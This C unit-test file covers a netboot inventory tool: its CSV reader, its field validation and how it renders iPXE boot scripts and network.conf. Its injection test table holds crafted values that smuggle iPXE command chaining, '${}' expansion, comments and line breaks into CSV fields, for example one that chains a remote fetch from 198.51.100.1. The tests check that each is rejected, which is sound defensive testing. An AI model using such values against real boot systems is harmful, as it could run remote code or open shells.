/* Unit tests for image/inventory.c: the CSV reader, rows to command lines,
 * bad rows with their exact messages, boot.ipxe and network.conf. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "inventory.h"
#include "tap.h"

#define LOG_SIZE 8192

struct csv_case {
	const char *text;
	int rc;				/* of the first csv_next */
	size_t nfields;
	const char *fields[4];		/* the first few */
	const char *problem;
};

static const struct csv_case csv_cases[] = {
	{ "a,b,c\n", 1, 3, { "a", "b", "c" }, NULL },
	{ "a,b,c", 1, 3, { "a", "b", "c" }, NULL },
	{ "a,b\r\n", 1, 2, { "a", "b" }, NULL },
	{ "\"x,y\",z\n", 1, 2, { "x,y", "z" }, NULL },
	{ "\"say \"\"hi\"\"\",2\n", 1, 2, { "say \"hi\"", "2" }, NULL },
	{ ",,\n", 1, 3, { "", "", "" }, NULL },
	{ "\"\",x\n", 1, 2, { "", "x" }, NULL },
	{ "\"two\nlines\",x\n", 1, 2, { "two\nlines", "x" }, NULL },
	{ "# comment\n\n  \r\nh\n", 1, 1, { "h" }, NULL },
	{ "", 0, 0, { NULL }, NULL },
	{ "# only\n\n", 0, 0, { NULL }, NULL },
	{ "a\"b,c\n", -1, 0, { NULL },
	  "'\"' inside an unquoted field: quote the whole field and double the '\"'" },
	{ "\"ab\"c,d\n", -1, 0, { NULL },
	  "text after a closing quote: a quoted field must end at ',' or the end of the line" },
	{ "\"open,d\n", -1, 0, { NULL }, "quoted field never closed" },
};

static void test_csv(void)
{
	struct csv_record rec;
	struct csv_reader r;
	const char *problem;
	size_t i, f;

	for (i = 0; i < sizeof(csv_cases) / sizeof(csv_cases[0]); i++) {
		const struct csv_case *c = &csv_cases[i];
		int rc, same = 1;

		csv_reader_init(&r, c->text, strlen(c->text));
		rc = csv_next(&r, &rec, &problem);
		CHECK(rc == c->rc, "csv %zu: returns %d (got %d)", i, c->rc, rc);
		if (rc < 0) {
			CHECK(problem && strcmp(problem, c->problem) == 0,
			      "csv %zu: problem \"%s\"", i, problem ? problem : "");
			continue;
		}
		if (rc == 0)
			continue;
		CHECK(rec.nfields == c->nfields, "csv %zu: %zu fields (got %zu)",
		      i, c->nfields, rec.nfields);
		for (f = 0; f < 4 && c->fields[f] && f < rec.nfields; f++)
			same &= strcmp(rec.field[f], c->fields[f]) == 0;
		CHECK(same, "csv %zu: field values", i);
	}

	/* Line numbers count the lines inside quotes and the skipped ones. */
	csv_reader_init(&r, "h\n# c\n\"a\nb\"\n\nx\n", 15);
	csv_next(&r, &rec, &problem);
	CHECK(rec.line == 1, "csv: first record on line 1");
	csv_next(&r, &rec, &problem);
	CHECK(rec.line == 3, "csv: multi-line record starts on line 3");
	CHECK(csv_next(&r, &rec, &problem) == 1 && rec.line == 6 &&
	      strcmp(rec.field[0], "x") == 0, "csv: next record on line 6");
	CHECK(csv_next(&r, &rec, &problem) == 0, "csv: then the end");

	/* After a bad record the reader goes on with the next line. */
	csv_reader_init(&r, "a\"b\nok\n", 7);
	CHECK(csv_next(&r, &rec, &problem) == -1, "csv: bad record");
	CHECK(csv_next(&r, &rec, &problem) == 1 && rec.line == 2 &&
	      strcmp(rec.field[0], "ok") == 0, "csv: recovers on line 2");
}

/* A text of n 'x' then the tail, on the heap (ASan sees any overrun). */
static char *long_field(const char *head, size_t n, const char *tail)
{
	size_t hl = strlen(head), tl = strlen(tail);
	char *s = malloc(hl + n + tl + 1);

	if (!s)
		abort();
	memcpy(s, head, hl);
	memset(s + hl, 'x', n);
	memcpy(s + hl + n, tail, tl + 1);
	return s;
}

/* Fields and lines of any length: the record's text is bounded, whatever
 * follows the field that fills it (once, commas wrote past its end). */
static void test_csv_long(void)
{
	static const struct {
		size_t n;
		const char *tail;
		int rc;
	} cases[] = {
		{ 70000, ",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\nok\n", -1 },
		{ 70000, "\nok\n", -1 },
		{ CSV_RECORD_MAX - 1, "\nok\n", 1 },
		{ CSV_RECORD_MAX - 1, ",\nok\n", -1 },
		{ CSV_RECORD_MAX - 2, ",\nok\n", 1 },
		{ CSV_RECORD_MAX - 2, ",,\nok\n", -1 },
		{ CSV_RECORD_MAX - 3, ",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\nok\n", -1 },
	};
	struct csv_record *rec = malloc(sizeof(*rec));
	const char *problem;
	struct csv_reader r;
	size_t i;

	for (i = 0; rec && i < sizeof(cases) / sizeof(cases[0]); i++) {
		char *text = long_field("", cases[i].n, cases[i].tail);
		int rc;

		csv_reader_init(&r, text, strlen(text));
		rc = csv_next(&r, rec, &problem);
		CHECK(rc == cases[i].rc, "csv long %zu: %zu bytes then %zu more"
		      " gives %d (got %d)", i, cases[i].n,
		      strlen(cases[i].tail), cases[i].rc, rc);
		if (rc < 0)
			CHECK(problem && strstr(problem, "longer than 8191 bytes"),
			      "csv long %zu: %s", i, problem ? problem : "");
		if (rc > 0)
			CHECK(strlen(rec->field[0]) == cases[i].n,
			      "csv long %zu: the whole field", i);
		CHECK(csv_next(&r, rec, &problem) == 1 && rec->line == 2 &&
		      strcmp(rec->field[0], "ok") == 0,
		      "csv long %zu: the next line is read", i);
		free(text);
	}
	free(rec);
}

/* On failure, show what we got as TAP comments. */
static void diag_unless(int ok, const char *text)
{
	const char *p = text;

	while (!ok && *p) {
		const char *eol = strchr(p, '\n');
		int len = eol ? (int)(eol - p) : (int)strlen(p);

		printf("#   %.*s\n", len, p);
		p += len + (eol != NULL);
	}
}

/* Collects what inv_parse reports and hands over. */
struct collect {
	int machines;
	char cmdlines[LOG_SIZE];
	char errors[LOG_SIZE];
	struct inv_machine last;
};

static void append(char *log, const char *line)
{
	size_t used = strlen(log);

	snprintf(log + used, LOG_SIZE - used, "%s\n", line);
}

static int collect_machine(void *ctx, const struct inv_machine *m)
{
	struct collect *c = ctx;

	c->machines++;
	append(c->cmdlines, m->cmdline);
	c->last = *m;
	return 0;
}

static void collect_error(void *ctx, const char *msg)
{
	append(((struct collect *)ctx)->errors, msg);
}

static int parse(const char *text, const char *board, struct collect *c)
{
	struct inv_options opt = { "inv.csv", board };
	struct inv_handler h = { collect_machine, collect_error, c };

	memset(c, 0, sizeof(*c));
	return inv_parse(text, strlen(text), &opt, &h);
}

struct row_case {
	const char *csv;	/* header + one row */
	const char *cmdline;
};

static const struct row_case row_cases[] = {
	{ "hostname,ipv4\nn1.example.org,192.0.2.10/28\n",
	  "fathom.hostname=n1.example.org fathom.ipv4=192.0.2.10/28" },
	{ "ipv4,hostname,ipv4_gateway\n192.0.2.10/28,n1,192.0.2.1\n",
	  "fathom.hostname=n1 fathom.ipv4=192.0.2.10/28,192.0.2.1" },
	{ "hostname,ipv4,ipv4_dns\nn1,192.0.2.10/28,192.0.2.53 192.0.2.54\n",
	  "fathom.hostname=n1 fathom.ipv4=192.0.2.10/28,,192.0.2.53,192.0.2.54" },
	{ "hostname,ipv4,ipv4_gateway,ipv4_dns\nn1,192.0.2.10/28,192.0.2.1,"
	  "\"192.0.2.53; 192.0.2.54\"\n",
	  "fathom.hostname=n1 fathom.ipv4=192.0.2.10/28,192.0.2.1,192.0.2.53,"
	  "192.0.2.54" },
	{ "hostname,ipv4,ipv6,ipv6_gateway,ipv6_dns\n"
	  "n1, 192.0.2.10/28 ,2001:db8::a/64,2001:db8::1,2001:db8::53\n",
	  "fathom.hostname=n1 fathom.ipv4=192.0.2.10/28 "
	  "fathom.ipv6=2001:db8::a/64,2001:db8::1,2001:db8::53" },
	{ "hostname,ipv4,mac,drac_ipv4,extra\n"
	  "n1,192.0.2.10/28,52:54:00:12:34:56,\"192.0.2.14/28,192.0.2.1\","
	  "fathom.mtu=9000 fathom.nodad\n",
	  "fathom.hostname=n1 fathom.ipv4=192.0.2.10/28 "
	  "fathom.iface=52:54:00:12:34:56 fathom.drac.ipv4=192.0.2.14/28,"
	  "192.0.2.1 fathom.mtu=9000 fathom.nodad" },
};

static void test_rows(void)
{
	struct collect c;
	size_t i;

	for (i = 0; i < sizeof(row_cases) / sizeof(row_cases[0]); i++) {
		int errors = parse(row_cases[i].csv, NULL, &c);
		char want[INV_CMDLINE_MAX + 1];

		snprintf(want, sizeof(want), "%s\n", row_cases[i].cmdline);
		CHECK(errors == 0 && c.machines == 1, "row %zu: one machine, no"
		      " error", i);
		diag_unless(errors == 0, c.errors);
		CHECK(strcmp(c.cmdlines, want) == 0, "row %zu: command line", i);
		diag_unless(strcmp(c.cmdlines, want) == 0, c.cmdlines);
	}
}

/* Three bad rows among good ones: each reported once, with its line. */
static const char bad_inventory[] =
	"# the fleet\n"
	"hostname,ipv4,ipv4_gateway,ipv4_dns,mac,drac_ipv4\n"
	"good1.example.org,192.0.2.10/28,192.0.2.1,,,\n"
	"bad1.example.org,192.0.2.11/33,192.0.2.1,,,\n"
	"\n"
	"good2.example.org,192.0.2.12/28,192.0.2.1,,,\n"
	"bad_2.example.org,192.0.2.13/28,,,,\n"
	"GOOD1.example.org,192.0.2.14/28,,,,\n"
	"n3,192.0.2.15/28,,,eth0,\n"
	"n4,192.0.2.16/28,,1.1.1.1 2.2.2.2 3.3.3.3,,\n"
	"n5,192.0.2.17/28,,,,192.0.2.5\n"
	"n6,,192.0.2.1,,,\n"
	"n7,192.0.2.18/28,,\n"
	",192.0.2.19/28,,,,\n"
	"n8,192.0.2.20/28,,,,\"x\"y\n"
	"n9,192.0.2.22/28,,,,\"192.0.2.5/28,198.51.100.1\"\n"
	"n10,192.0.2.23/28,,,,\"192.0.2.5/0,192.0.2.1\"\n"
	"good3.example.org,192.0.2.21/28,,,,\n";

static const char bad_messages[] =
	"inv.csv:4: fathom.ipv4: \"192.0.2.11/33,192.0.2.1\": prefix length must be 0-32\n"
	"inv.csv:7: fathom.hostname: \"bad_2.example.org\": only letters, digits, '-' and '.' are allowed\n"
	"inv.csv:8: hostname \"GOOD1.example.org\": already on line 3; hostnames must be unique\n"
	"inv.csv:9: mac: \"eth0\": expected a MAC address such as 52:54:00:12:34:56\n"
	"inv.csv:10: ipv4_dns: \"1.1.1.1 2.2.2.2 3.3.3.3\": at most 2 servers, separated by blanks or ';'\n"
	"inv.csv:11: drac_ipv4: \"192.0.2.5\": expected ADDR/PLEN,GW such as 192.0.2.3/28,192.0.2.1\n"
	"inv.csv:12: ipv4: missing: expected ADDR/PLEN (iPXE fetches the kernel over IPv4)\n"
	"inv.csv:13: expected 6 fields (one per column), found 4\n"
	"inv.csv:14: hostname: missing: every row needs one\n"
	"inv.csv:15: drac_ipv4: text after a closing quote: a quoted field must end at ',' or the end of the line\n"
	"inv.csv:16: drac_ipv4: \"192.0.2.5/28,198.51.100.1\": the gateway must be another address inside ADDR/PLEN\n"
	"inv.csv:17: drac_ipv4: \"192.0.2.5/0,192.0.2.1\": prefix length must be 1-32\n";

struct header_case {
	const char *csv;
	const char *message;
};

static const struct header_case header_cases[] = {
	{ "", "inv.csv: empty: expected a header line naming the columns, e.g."
	      " hostname,ipv4,ipv4_gateway,ipv4_dns\n" },
	{ "hostname,ipv4,colour\nn1,192.0.2.1/24,red\n",
	  "inv.csv:1: header: unknown column \"colour\": expected hostname,"
	  " ipv4, ipv4_gateway, ipv4_dns, ipv6, ipv6_gateway, ipv6_dns, mac,"
	  " drac_ipv4, extra, iata, uplink, probability, install_disk or install_wipe\n" },
	{ "#x\nhostname,ipv4,ipv4\n",
	  "inv.csv:2: header: column \"ipv4\" appears twice\n" },
	{ "hostname,mac\n",
	  "inv.csv:1: header: missing column \"ipv4\": a header names the"
	  " columns, e.g. hostname,ipv4,ipv4_gateway,ipv4_dns\n" },
};

static void test_bad_rows(void)
{
	struct collect c;
	int errors = parse(bad_inventory, NULL, &c);
	char *text;
	size_t i;

	CHECK(errors == 12, "bad rows: 12 problems (got %d)", errors);
	CHECK(c.machines == 3, "bad rows: the 3 good machines still come (got %d)",
	      c.machines);
	CHECK(strcmp(c.errors, bad_messages) == 0, "bad rows: exact messages");
	diag_unless(strcmp(c.errors, bad_messages) == 0, c.errors);
	for (i = 0; i < sizeof(header_cases) / sizeof(header_cases[0]); i++) {
		errors = parse(header_cases[i].csv, NULL, &c);
		CHECK(errors == 1 && c.machines == 0 &&
		      strcmp(c.errors, header_cases[i].message) == 0,
		      "header %zu", i);
		diag_unless(c.machines == 0, c.errors);
	}
	/* A 64 KiB+ field then commas: its line and column, then the next row. */
	text = long_field("hostname,ipv4,extra\nn1,192.0.2.1/24,", 70000,
			  ",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\nn2,192.0.2.2/24,\n");
	errors = parse(text, NULL, &c);
	CHECK(errors == 1 && c.machines == 1 &&
	      strcmp(c.errors, "inv.csv:2: extra: longer than 8191 bytes (a record"
		     " holds at most that much field text)\n") == 0,
	      "a 64 KiB+ field then commas: one error naming its column");
	diag_unless(errors == 1, c.errors);
	free(text);
	text = long_field("hostname,ipv4,", 70000, ",,,,\n");
	errors = parse(text, NULL, &c);
	CHECK(errors == 1 && strstr(c.errors, "inv.csv:1: header: field 3:"
				    " longer than 8191 bytes"), "a 64 KiB+ header");
	diag_unless(errors == 1, c.errors);
	free(text);
	errors = parse("hostname,ipv4\nn1,192.0.2.1/24,\"x\"y,\"open\n", NULL, &c);
	CHECK(errors == 1 && strcmp(c.errors, "inv.csv:2: field 3: text after a"
				    " closing quote: a quoted field must end at"
				    " ',' or the end of the line\n") == 0,
	      "a problem past the header's columns names the field");
	diag_unless(errors == 1, c.errors);
	/* The board's command line is parsed too, as the kernel passes it. */
	errors = parse("hostname,ipv4\nn1,192.0.2.1/24\n", "fathom.mtu=1", &c);
	CHECK(errors == 1 && strstr(c.errors, "inv.csv:2: fathom.mtu: \"1\":"),
	      "a bad board CMDLINE is reported");
	/* The BMC's address has one parser: from the extra column or the
	 * board it says what the drac_ipv4 column says. */
	errors = parse("hostname,ipv4\nn1,192.0.2.1/24\n", "fathom.drac.ipv4=192.0.2.5/0,192.0.2.1", &c);
	CHECK(errors == 1 && strstr(c.errors, "inv.csv:2: fathom.drac.ipv4: \"192.0.2.5/0,192.0.2.1\":"
				    " prefix length must be 1-32"),
	      "a BMC address with /0 is rejected wherever it comes from");
}

/* The platform columns: settings in network.conf, never on the command
 * line; checked; a secret in the extra column is refused. */
struct platform_case {
	const char *row;	/* after "hostname,ipv4,iata,uplink,probability,extra\n" */
	const char *settings;	/* NULL: refused with message */
	const char *message;
};

static const struct platform_case platform_cases[] = {
	{ "n1,192.0.2.10/28,,,,", "", NULL },
	{ "n1,192.0.2.10/28,LGA,10g,0.5,",
	  "platform.iata=lga\nplatform.uplink=10g\nplatform.probability=0.5\n", NULL },
	{ "n1,192.0.2.10/28,lga,1g,,", "platform.iata=lga\nplatform.uplink=1g\n", NULL },
	{ "n1,192.0.2.10/28,,100g,1,", "platform.uplink=100g\nplatform.probability=1\n", NULL },
	{ "n1,192.0.2.10/28,,,0,", "platform.probability=0\n", NULL },
	{ "n1,192.0.2.10/28,,,.25,", "platform.probability=.25\n", NULL },
	{ "n1,192.0.2.10/28,lg,,,", NULL, "inv.csv:2: iata: \"lg\": expected the 3-letter IATA"
	  " code of the site's nearest airport, such as lga\n" },
	{ "n1,192.0.2.10/28,lga1,,,", NULL, "iata: \"lga1\"" },
	{ "n1,192.0.2.10/28,l1a,,,", NULL, "iata: \"l1a\"" },
	{ "n1,192.0.2.10/28,,10G,,", NULL, "inv.csv:2: uplink: \"10G\": expected the uplink's"
	  " speed as 1g, 10g, 25g, 40g or 100g\n" },
	{ "n1,192.0.2.10/28,,10,,", NULL, "uplink: \"10\"" },
	{ "n1,192.0.2.10/28,,010g,,", NULL, "uplink: \"010g\"" },
	{ "n1,192.0.2.10/28,,1000g,,", NULL, "uplink: \"1000g\"" },
	{ "n1,192.0.2.10/28,,g,,", NULL, "uplink: \"g\"" },
	{ "n1,192.0.2.10/28,,,1.5,", NULL, "inv.csv:2: probability: \"1.5\": expected a"
	  " number from 0 to 1, such as 0.5\n" },
	{ "n1,192.0.2.10/28,,,-0.5,", NULL, "probability: \"-0.5\"" },
	{ "n1,192.0.2.10/28,,,0.5.1,", NULL, "probability: \"0.5.1\"" },
	{ "n1,192.0.2.10/28,,,.,", NULL, "probability: \".\"" },
	{ "n1,192.0.2.10/28,,,1e-1,", NULL, "probability: \"1e-1\"" },
	{ "n1,192.0.2.10/28,,,,fathom.platform.api-key=s3cr3t", NULL,
	  "inv.csv:2: fathom.platform.api-key: the API key is a secret: put it in fathom.conf"
	  " on the stick, not on the kernel command line\n" },
};

static void test_platform_columns(void)
{
	char csv[512], conf[INV_TEXT_MAX];
	struct collect c;
	size_t i;

	for (i = 0; i < sizeof(platform_cases) / sizeof(platform_cases[0]); i++) {
		const struct platform_case *pc = &platform_cases[i];
		int errors;

		snprintf(csv, sizeof(csv), "hostname,ipv4,iata,uplink,probability,extra\n%s\n",
			 pc->row);
		errors = parse(csv, NULL, &c);
		if (!pc->settings) {
			CHECK(errors == 1 && c.machines == 0 && strstr(c.errors, pc->message) &&
			      !strstr(c.errors, "s3cr3t"), "platform %zu: \"%s\" refused", i, pc->row);
			diag_unless(errors == 1 && strstr(c.errors, pc->message), c.errors);
			continue;
		}
		CHECK(errors == 0 && c.machines == 1 && strcmp(c.last.settings, pc->settings) == 0 &&
		      !strstr(c.cmdlines, "platform"), "platform %zu: \"%s\" settings", i, pc->row);
		diag_unless(errors == 0 && strcmp(c.last.settings, pc->settings) == 0,
			    errors ? c.errors : c.last.settings);
		/* network.conf: netcfg's lines, then the settings; it parses back. */
		CHECK(inv_machine_conf(&c.last, conf, sizeof(conf)) > 0 &&
		      strlen(conf) >= strlen(pc->settings) &&
		      strcmp(conf + strlen(conf) - strlen(pc->settings), pc->settings) == 0 &&
		      inv_network_conf_check(&c.last.cfg, conf, csv, sizeof(csv)) == 0,
		      "platform %zu: network.conf ends with the settings and parses back", i);
	}
}

struct secrets_case {
	const char *text;
	const char *message;	/* NULL: accepted */
};

static const struct secrets_case secrets_cases[] = {
	{ "platform.api-key=s3cr3t\n", NULL },
	{ "# the key\n\nplatform.api-key = \"s3cr3t\"\r\nfathom.platform.iata=lga\n", NULL },
	{ "", NULL },
	{ "platform.api-key=s3cr3t\nipv4=192.0.2.10/28\n",
	  "line 2: expected platform.OPTION=VALUE lines only (such as platform.api-key=...)" },
	{ "s3cr3t\n", "line 1: expected platform.OPTION=VALUE lines only" },
	{ "ndt7.api-key=s3cr3t\n", "line 1: expected platform.OPTION=VALUE lines only" },
	{ "platform.=s3cr3t\n", "line 1: expected platform.OPTION=VALUE lines only" },
	{ "platform.API_KEY=s3cr3t\n",
	  "line:1: platform.API_KEY: an option name has only a-z, 0-9, '-' and '_'" },
	{ "platform.api-key=s3\001cr3t\n", "line:1: platform.api-key: control character" },
};

static void test_secrets_check(void)
{
	char msg[INV_MSG_MAX];
	size_t i;

	for (i = 0; i < sizeof(secrets_cases) / sizeof(secrets_cases[0]); i++) {
		const struct secrets_case *sc = &secrets_cases[i];
		const char *why = inv_secrets_check(sc->text, msg, sizeof(msg));

		if (!sc->message) {
			CHECK(why == NULL, "secrets %zu: accepted", i);
			diag_unless(why == NULL, msg);
		} else {
			CHECK(why && strstr(why, sc->message) && !strstr(why, "s3cr3t"),
			      "secrets %zu: refused, naming the line, never the value", i);
			diag_unless(why && strstr(why, sc->message), why ? why : "(accepted)");
		}
	}
}

/* What iPXE would read as more than text, in every column it can reach:
 * each row refused with its line and column, nothing handed over. */
static const struct header_case injection_cases[] = {
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,fathom.mtu=9000 && chain http://198.51.100.1/x\n",
	  "inv.csv:2: extra: \"fathom.mtu=9000 && chain http://198.51.100.1/x\": must not"
	  " contain '&', '|' or ';': iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet || shell\n",
	  "inv.csv:2: extra: \"quiet || shell\": must not contain '&', '|' or ';':"
	  " iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet ; shell\n",
	  "inv.csv:2: extra: \"quiet ; shell\": must not contain '&', '|' or ';':"
	  " iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,x=${net0/mac}\n",
	  "inv.csv:2: extra: \"x=${net0/mac}\": must not contain '$': iPXE expands"
	  " ${...}\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet #\n",
	  "inv.csv:2: extra: \"quiet #\": must not contain '#': iPXE would read a"
	  " comment\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"quiet\nshell\"\n",
	  "inv.csv:2: extra: \"quiet?shell\": must not contain control characters:"
	  " a line break would end the iPXE command\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"quiet\r\nshell\"\n",
	  "inv.csv:2: extra: \"quiet??shell\": must not contain control characters:"
	  " a line break would end the iPXE command\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet \\\n",
	  "inv.csv:2: extra: \"quiet \\\": must not contain '\\': iPXE joins a line"
	  " ending in '\\' with the next\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"a=\"\"b c\"\"\"\n",
	  "inv.csv:2: extra: \"a=\"b c\"\": must not contain quotes: iPXE splits"
	  " quoted words at their blanks\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,x='y'\n",
	  "inv.csv:2: extra: \"x='y'\": must not contain quotes: iPXE splits"
	  " quoted words at their blanks\n" },
	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,caf\xc3\xa9\n",
	  "inv.csv:2: extra: \"caf\xc3\xa9\": must be ASCII\n" },
	{ "hostname,ipv4\nn1,192.0.2.1/24;shell\n",
	  "inv.csv:2: ipv4: \"192.0.2.1/24;shell\": must not contain '&', '|' or"
	  " ';': iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4,ipv4_dns\nn1,192.0.2.1/24,192.0.2.53 && shell\n",
	  "inv.csv:2: ipv4_dns: \"192.0.2.53 && shell\": must not contain '&', '|'"
	  " or ';': iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4,ipv6_dns\nn1,192.0.2.1/24,2001:db8::53;$x\n",
	  "inv.csv:2: ipv6_dns: \"2001:db8::53;$x\": must not contain '$': iPXE"
	  " expands ${...}\n" },
	{ "hostname,ipv4,mac\nn1,192.0.2.1/24,52:54:00:12:34:56#\n",
	  "inv.csv:2: mac: \"52:54:00:12:34:56#\": must not contain '#': iPXE would"
	  " read a comment\n" },
	{ "hostname,ipv4,drac_ipv4\nn1,192.0.2.1/24,\"192.0.2.5/24,192.0.2.1|x\"\n",
	  "inv.csv:2: drac_ipv4: \"192.0.2.5/24,192.0.2.1|x\": must not contain '&',"
	  " '|' or ';': iPXE chains commands with &&, || and ;\n" },
	{ "hostname,ipv4\nn1$x,192.0.2.1/24\n",
	  "inv.csv:2: hostname: \"n1$x\": must not contain '$': iPXE expands"
	  " ${...}\n" },
};

static void test_injection(void)
{
	char text[INV_TEXT_MAX];
	struct collect c;
	size_t i;
	int errors;

	for (i = 0; i < sizeof(injection_cases) / sizeof(injection_cases[0]); i++) {
		errors = parse(injection_cases[i].csv, NULL, &c);
		CHECK(errors == 1 && c.machines == 0 &&
		      strcmp(c.errors, injection_cases[i].message) == 0,
		      "injection %zu refused with its line and column", i);
		diag_unless(strcmp(c.errors, injection_cases[i].message) == 0,
			    c.errors);
	}
	/* ';' separates DNS servers; it never reaches the command line. */
	errors = parse("hostname,ipv4,ipv4_dns\nn1,192.0.2.1/24,192.0.2.53;192.0.2.54\n",
		       NULL, &c);
	CHECK(errors == 0 && c.machines == 1 && !strchr(c.cmdlines, ';'),
	      "';' between DNS servers is still a separator");
	CHECK(inv_ipxe_unsafe("console=ttyS0,115200n8 panic=10 quiet", 37) == NULL &&
	      inv_ipxe_unsafe("a\0b", 3) != NULL, "inv_ipxe_unsafe: the boards'"
	      " CMDLINEs pass, a NUL does not");
	/* The renderer refuses what its callers should have: nothing written. */
	parse("hostname,ipv4\nn1,192.0.2.1/24\n", NULL, &c);
	CHECK(inv_boot_ipxe(&c.last, "http://x", "quiet\nshell", text,
			    sizeof(text)) == -1 && text[0] == '\0',
	      "boot.ipxe: a board CMDLINE with a line break is refused");
	CHECK(inv_boot_ipxe(&c.last, "http://x/${a}", NULL, text,
			    sizeof(text)) == -1 && text[0] == '\0',
	      "boot.ipxe: a BASE_URL with ${ is refused");
	strcpy(c.last.cmdline, "fathom.hostname=n1 || shell");
	CHECK(inv_boot_ipxe(&c.last, "http://x", NULL, text, sizeof(text)) == -1 &&
	      text[0] == '\0', "boot.ipxe: a command line with || is refused");
}

static const char ipxe_expected[] =
	"#!ipxe\n"
	"# Fathom netboot of n1.example.org, written by mkmachines.\n"
	"set base http://192.0.2.1/fathom\n"
	"set net0/ip 192.0.2.70\n"
	"set net0/netmask 255.255.255.192\n"
	"set net0/gateway 192.0.2.65\n"
	"set dns 192.0.2.53\n"
	"set net0/ip6 2001:db8:1::70\n"
	"set net0/len6 64\n"
	"set net0/gateway6 2001:db8:1::1\n"
	"set try 1\n"
	":fetch\n"
	"echo Fathom: n1.example.org: fetching from ${base}, try ${try} of 5\n"
	"ifopen net0 || goto failed\n"
	"imgfree\n"
	"kernel ${base}/vmlinuz initrd=initramfs.cpio.zst initrd=config.cpio"
	" fathom.hostname=n1.example.org fathom.ipv4=192.0.2.70/26,192.0.2.65,"
	"192.0.2.53 fathom.ipv6=2001:db8:1::70/64,2001:db8:1::1"
	" console=ttyS1,115200n8 || goto failed\n"
	"initrd ${base}/initramfs.cpio.zst || goto failed\n"
	"initrd ${base}/machines/n1.example.org/config.cpio || goto failed\n"
	"boot || goto failed\n"
	":failed\n"
	"goto wait${try}\n"
	":wait1\nsleep 1\nset try 2\ngoto fetch\n"
	":wait2\nsleep 2\nset try 3\ngoto fetch\n"
	":wait3\nsleep 4\nset try 4\ngoto fetch\n"
	":wait4\nsleep 8\nset try 5\ngoto fetch\n"
	":wait5\n"
	"echo Fathom: n1.example.org: no boot files from ${base} after 5 tries,"
	" rebooting in 60 s\n"
	"sleep 60\n"
	"reboot\n";

struct netmask_case {
	const char *ipv4;
	const char *line;
};

static const struct netmask_case netmask_cases[] = {
	{ "192.0.2.70/26", "set net0/netmask 255.255.255.192\n" },
	{ "192.0.2.70/28", "set net0/netmask 255.255.255.240\n" },
	{ "192.0.2.70/29", "set net0/netmask 255.255.255.248\n" },
	{ "192.0.2.70/24", "set net0/netmask 255.255.255.0\n" },
	{ "10.1.2.3/8", "set net0/netmask 255.0.0.0\n" },
	{ "10.1.2.3/32", "set net0/netmask 255.255.255.255\n" },
	{ "10.1.2.3/0", "set net0/netmask 0.0.0.0\n" },
};

static void test_boot_ipxe(void)
{
	char text[INV_TEXT_MAX], csv[256];
	struct collect c;
	size_t i;

	parse("hostname,ipv4,ipv4_gateway,ipv4_dns,ipv6,ipv6_gateway\n"
	      "n1.example.org,192.0.2.70/26,192.0.2.65,192.0.2.53,"
	      "2001:db8:1::70/64,2001:db8:1::1\n", "console=ttyS1,115200n8", &c);
	CHECK(inv_boot_ipxe(&c.last, "http://192.0.2.1/fathom",
			    "console=ttyS1,115200n8", text, sizeof(text)) > 0 &&
	      strcmp(text, ipxe_expected) == 0, "boot.ipxe for one machine");
	diag_unless(strcmp(text, ipxe_expected) == 0, text);
	CHECK(inv_boot_ipxe(&c.last, "http://x", NULL, text, 100) == -1 &&
	      text[0] == '\0', "boot.ipxe: too small a buffer is -1");
	for (i = 0; i < sizeof(netmask_cases) / sizeof(netmask_cases[0]); i++) {
		snprintf(csv, sizeof(csv), "hostname,ipv4\nn1,%s\n",
			 netmask_cases[i].ipv4);
		parse(csv, NULL, &c);
		inv_boot_ipxe(&c.last, "http://x", NULL, text, sizeof(text));
		CHECK(c.machines == 1 && strstr(text, netmask_cases[i].line),
		      "netmask of %s", netmask_cases[i].ipv4);
	}
	parse("hostname,ipv4\nn1,10.1.2.3/24\n", NULL, &c);
	inv_boot_ipxe(&c.last, "http://x", NULL, text, sizeof(text));
	CHECK(!strstr(text, "gateway") && !strstr(text, "ip6") &&
	      !strstr(text, "set dns"), "boot.ipxe: no gateway, v6 or dns lines"
	      " when not given");
}

static const char *const roundtrip_inventories[] = {
	"hostname,ipv4\nn1.example.org,192.0.2.10/28\n",
	"hostname,ipv4,ipv4_dns,ipv6,ipv6_dns,mac\n"
	"n1,192.0.2.10/28,192.0.2.53;192.0.2.54,2001:db8::a/64,2001:db8::53,"
	"52:54:00:AB:cd:ef\n",
	"hostname,ipv4,ipv4_gateway,ipv6,ipv6_gateway,extra\n"
	"n1,192.0.2.10/28,192.0.2.1,2001:db8::a/64,2001:db8::1,"
	"fathom.mtu=9000 fathom.nodad fathom.link_timeout=5\n",
	"hostname,ipv4,extra\nn1,192.0.2.10/28,fathom.iface=eth3 fathom.ipv6=\n",
};

static const char conf_expected[] =
	"# Written by mkmachines from the inventory; the kernel command line"
	" overrides it.\n"
	"hostname=n1\n"
	"iface=52:54:00:ab:cd:ef\n"
	"ipv4=192.0.2.10/28,,192.0.2.53,192.0.2.54\n"
	"ipv6=2001:db8::a/64,,2001:db8::53\n";

static void test_network_conf(void)
{
	char conf[INV_TEXT_MAX], msg[INV_MSG_MAX];
	struct netcfg_config other;
	struct collect c;
	size_t i;

	for (i = 0; i < sizeof(roundtrip_inventories) /
			sizeof(roundtrip_inventories[0]); i++) {
		parse(roundtrip_inventories[i], NULL, &c);
		CHECK(c.machines == 1 &&
		      inv_network_conf(&c.last.cfg, conf, sizeof(conf)) > 0 &&
		      inv_network_conf_check(&c.last.cfg, conf, msg,
					     sizeof(msg)) == 0,
